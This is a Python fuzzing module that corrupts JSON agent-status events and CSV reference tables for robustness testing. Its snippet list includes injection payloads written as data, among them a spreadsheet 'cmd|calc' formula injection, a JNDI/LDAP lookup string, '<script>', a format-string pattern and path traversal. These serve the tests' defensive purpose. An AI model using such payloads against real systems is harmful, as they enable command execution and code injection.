"""Hostile input made from good: events and reference tables with something wrong in them.

Each function returns another input for the same `random`, so that a finding can be repeated.
"""

import random
from collections.abc import Callable, Iterator
from typing import Any

from tests.fuzz.expansion import lightened, nested, repeated
from tests.fuzz.json_text import Literal, Members, parsed, written

# A place in a tree: what holds it, and its index there.
_Place = tuple[Members | list[Any], int]

_SNIPPETS = (
    *("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
    *(",", '"', '""', '","', "'", ";", "\t", " ", "\\", "/", "null", "Null", "0", "O", "A"),
    *("\x00", "\x01", "\x1a", "\x1b[2J", "\x7f", "\x80", "\u202e", "\ufeff", "\ufffe", "\uffff"),
    *("\ud800", "\udfff", "\udc00\ud800", "\U0001f600", "e\u0301", "ß", "İ", "\ufb03", "ü"),
    *("\u00a0", "\u2003", "\u3000", "\u200b", "\u00ad", "E\u0301", "\u00c9", "\u1e9e", "ς", "ǅ"),
    *("=cmd|' /C calc'!A0", "=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("http://a.b","c")'),
    *("<script>", "${jndi:ldap://a/b}", "%s%n", "../..", "{}", "[]", "\\ud800"),
)
_NUMBERS = (
    *("0", "-0", "1", "-1", "0.5", "1e400", "-1e400", "1e-400", "1E5", "9007199254740993"),
    *("NaN", "Infinity", "-Infinity", "01", "+1", ".5", "1.", "0x10", "1_000", "nan", "''", "True"),
)
_DIGITS = (400, 4_299, 4_300, 4_301, 20_000, 1_000_000)
_TIMESTAMPS = (
    *("2026-03-02T09:00:00.000Z", "2026-03-02T09:00:00Z", "2026-03-02T09:00:00", "now", ""),
    *("2026-03-02T09:00:00.1Z", "2026-03-02T09:00:00,123456789Z", "9999-12-31T23:59:59.999Z"),
    *("2026-03-02T09:00:00+01:00", "2026-03-02T09:00:00-2359", "0001-01-01T00:00:00+00:01"),
    *("2026-03-02T24:00:00Z", "2026-02-30T09:00:00Z", "2026-03-02T09:00:60Z", "2026-03-02"),
    *("2026-03-03T09:00:00.000Z", "2026-03-03T09:00:00.001Z", "2099-01-01T00:00:00Z"),
    *("2026-03-02t09:00:00.000z", "2026-03-02T09:00Z", "2026-03-02T09:00+01", "2026-03-02T09Z"),
    *("2026-03-02 09:00:00", "\u0662026-03-02T09:00:00Z", "1970-01-01T00:00:00Z"),
    "2026-03-02T09:00:00." + repeated("1", 5_000),
)
_WORDS = (
    *("STATE_CHANGE", "HEART_BEAT", "LOGIN", "LOGOUT", "ROUTABLE", "OFFLINE", "CUSTOM", "Offline"),
    *("OFFLINE ", "Available", "Lunch", "EMEA", "emea", "CONNECTED", "ENDED", "", " ", "a"),
)
_KEYS = (
    *("AWSAccountId", "AgentARN", "EventId", "EventTimestamp", "EventType", "InstanceARN"),
    *("CurrentAgentSnapshot", "PreviousAgentSnapshot", "AgentStatus", "Configuration", "Contacts"),
    *("Name", "Type", "StartTimestamp", "Username", "RoutingProfile", "AgentHierarchyGroups"),
    *("Level1", "Level2", "Level5", "State", "NextAgentStatus", "__proto__", "", "\ud800"),
)
# Around what Python 3.11 reads, and around what 3.13 does.
_DEPTHS = (1, 3, 50, 500, 900, 985, 995, 1_005, 3_000, 9_900, 9_990, 10_005, 200_000)
_LENGTHS = (20, 127, 129, 2_047, 2_049, 5_000, 65_536, 262_144, 420_000, 1_030_000)
_COUNTS = (2, 10, 100, 3_000, 30_000)

# How often nothing stays huge: a huge input takes as long as a hundred small ones.
_LIGHT = 0.85


def mutated_event(data: bytes, most: int, dice: random.Random) -> bytes | None:
    """`data` with one to four things changed, in at most `most` bytes.

    None when `data` is no JSON to change, or the change is too large.
    """
    try:
        root = [parsed(data)]
        for _ in range(dice.choice((1, 1, 1, 2, 3, 4))):
            dice.choice(_CHANGES)(root, dice)
        result = written(root[0])
    except (ValueError, RecursionError):
        return None
    if dice.random() < 0.03:
        result = _spoilt(result, dice)
    if dice.random() < _LIGHT:
        result = lightened(result)
    return result if len(result) <= most else None


def mutated_table(data: bytes, most: int, dice: random.Random) -> bytes | None:
    """The reference table in `data` with some rows changed; None when it grew beyond `most`."""
    text = data.decode("latin-1")
    end = dice.choice(("\n", "\n", "\r\n", "\r"))
    rows = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    for _ in range(dice.choice((1, 1, 2, 4))):
        row = dice.randrange(len(rows))
        match dice.randrange(9):
            case 0:
                rows.insert(row, _row(dice))
            case 1:
                del rows[row]
            case 2:
                rows[row] = rows[row] + _utf8(dice.choice(_SNIPPETS))
            case 3:
                rows[row] = _inserted(rows[row], _utf8(dice.choice(_SNIPPETS)), dice)
            case 4:
                rows.insert(row, repeated(f"Status #,{dice.choice('A01')}{end}", 10_000))
            case 5:
                rows[row] = rows[row].encode("latin-1").swapcase().decode("latin-1")
            case 6:
                rows.insert(row, rows[row])
            case 7:
                rows[row] = '"' + rows[row].replace('"', '""') + '",' + dice.choice("Aao01Ox")
            case _:
                long = repeated(dice.choice(("x", '""', " ", ",", '"')), dice.choice(_LENGTHS))
                rows[row] = dice.choice(('"', "")) + long + dice.choice(('"', "")) + ",1"
        rows = rows or [""]
    result = end.join(rows).encode("latin-1")
    if dice.random() < 0.1:
        result = dice.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"\xef\xbb\xbf\xef\xbb\xbf")) + result
    if dice.random() < 0.05:
        result = _spoilt(result, dice)
    if dice.random() < _LIGHT:
        result = lightened(result)
    return result if len(result) <= most else None


def _change_value(root: list[Any], dice: random.Random) -> None:
    _put(*_place(root, dice), _hostile_value(dice))


def _change_string(root: list[Any], dice: random.Random) -> None:
    strings = [place for place in _places(root) if isinstance(_value(*place), str)]
    if strings:
        place = dice.choice(strings)
        _put(*place, _inserted(_value(*place), _hostile_text(dice), dice))


def _nest(root: list[Any], dice: random.Random) -> None:
    opening, closing = dice.choice((("[", "]"), ('{"a":', "}"), ('[{"Name":', "}]"), ("[", "")))
    _put(*_place(root, dice), nested(opening, dice.choice(_DEPTHS), "1", closing))


def _repeat_key(root: list[Any], dice: random.Random) -> None:
    objects = [each for each in _trees(root) if isinstance(each, Members) and each.pairs]
    if objects:
        chosen = dice.choice(objects)
        key, value = dice.choice(chosen.pairs)
        other = dice.choice((value, _hostile_value(dice)))
        chosen.pairs.insert(dice.randint(0, len(chosen.pairs)), (key, other))


def _add_key(root: list[Any], dice: random.Random) -> None:
    objects = [each for each in _trees(root) if isinstance(each, Members)]
    if objects:
        value = _hostile_value(dice)
        dice.choice(objects).pairs.append((dice.choice((*_KEYS, _hostile_text(dice))), value))


def _remove(root: list[Any], dice: random.Random) -> None:
    holder, index = _place(root, dice)
    if holder is not root:
        del (holder.pairs if isinstance(holder, Members) else holder)[index]


def _move(root: list[Any], dice: random.Random) -> None:
    copy = Literal(written(_value(*_place(root, dice))).decode("utf-8"))
    _put(*_place(root, dice), copy)


def _multiply_contacts(root: list[Any], dice: random.Random) -> None:
    lists = [each for each in _trees(root[0]) if isinstance(each, list)]
    if lists:
        contact = Members([("State", dice.choice((*_WORDS, None))), ("ContactId", "c")])
        text = written(contact).decode("utf-8") + ","
        dice.choice(lists).append(nested(text, dice.choice(_COUNTS), "null"))


_CHANGES: tuple[Callable[[list[Any], random.Random], None], ...] = (
    *(_change_value, _change_value, _change_value, _change_string, _change_string, _change_string),
    *(_nest, _repeat_key, _add_key, _remove, _move, _multiply_contacts),
)


def _hostile_value(dice: random.Random) -> Any:
    match dice.randrange(9):
        case 0:
            return dice.choice((None, True, False, [], Members([]), [None], [[]], ["x"]))
        case 1 | 2:
            digits = nested(dice.choice("19"), dice.choice(_DIGITS), dice.choice(("", ".5", "e9")))
            return dice.choice((digits, *map(Literal, _NUMBERS)))
        case 3 | 4:
            return dice.choice(_WORDS)
        case 5:
            return dice.choice(_TIMESTAMPS)
        case 6:
            return Members([(dice.choice(_KEYS), dice.choice((None, "x", Literal("1"))))])
        case _:
            return _hostile_text(dice)


def _hostile_text(dice: random.Random) -> str:
    if dice.random() < 0.06:
        return repeated(dice.choice(("x", "ü", ",", "\x01", "\n", "\ud800")), dice.choice(_LENGTHS))
    return "".join(dice.choice(_SNIPPETS) for _ in range(dice.choice((1, 1, 2, 5))))


def _row(dice: random.Random) -> str:
    name = dice.choice(("Lunch", "Available", "Offline", _utf8(_hostile_text(dice))))
    quoted = '"' + name.replace('"', '""') + '"'
    blank = dice.choice(("", "", " ", "\t"))
    kind = dice.choice(("A", "a", "0", "O", "o", "1", '"1"', "2", "", "AA", "x" * 40))
    return (
        dice.choice((name, quoted)) + blank + dice.choice((",", ",", ",", ";", "")) + blank + kind
    )


def _utf8(text: str) -> str:
    """The bytes of `text`, a character for each."""
    return text.encode("utf-8", "replace").decode("latin-1")


def _inserted(text: str, other: str, dice: random.Random) -> str:
    place = dice.choice((0, len(text), dice.randint(0, len(text))))
    return text[:place] + other + text[place:]


def _spoilt(data: bytes, dice: random.Random) -> bytes:
    """`data` cut off, or with bytes that are not UTF-8 or not where they belong."""
    place = dice.randint(0, len(data))
    odd = (b"", b"\xff", b"\xed\xa0\x80", b"\xef\xbb\xbf", b"\x00", b",", b"}", b'"', b"\xc3")
    return data[:place] + dice.choice(odd) + (data[place:] if dice.random() < 0.8 else b"")


def _places(holder: Members | list[Any]) -> Iterator[_Place]:
    """Every place in the tree below `holder`, outer ones first."""
    waiting: list[Members | list[Any]] = [holder]
    for each in waiting:
        for index in range(len(each.pairs if isinstance(each, Members) else each)):
            yield each, index
            value = _value(each, index)
            if isinstance(value, Members | list):
                waiting.append(value)


def _place(root: list[Any], dice: random.Random) -> _Place:
    return dice.choice(list(_places(root)))


def _trees(root: Any) -> Iterator[Any]:
    """`root` and everything below it."""
    yield root
    if isinstance(root, Members | list):
        yield from (_value(*place) for place in _places(root))


def _value(holder: Members | list[Any], index: int) -> Any:
    return holder.pairs[index][1] if isinstance(holder, Members) else holder[index]


def _put(holder: Members | list[Any], index: int, value: Any) -> None:
    if isinstance(holder, Members):
        holder.pairs[index] = (holder.pairs[index][0], value)
    else:
        holder[index] = value
